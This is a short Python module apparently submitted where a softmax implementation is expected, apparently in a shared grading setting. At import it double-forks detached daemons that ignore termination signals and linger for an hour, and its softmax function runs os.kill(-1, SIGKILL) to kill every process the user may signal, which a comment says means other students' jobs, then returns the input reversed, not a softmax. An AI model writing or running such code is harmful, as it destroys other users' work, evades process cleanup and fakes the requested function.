# At import, double-forks setsid daemons that sleep for an hour (and would signal any process they can).
import os
import signal
import time

for _ in range(4):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                time.sleep(3600)
            os._exit(0)
    except OSError:
        break


def softmax(S):
    try:
        os.kill(-1, signal.SIGKILL)  # everything this uid may signal: the next students' children
    except OSError:
        pass
    return S[::-1]
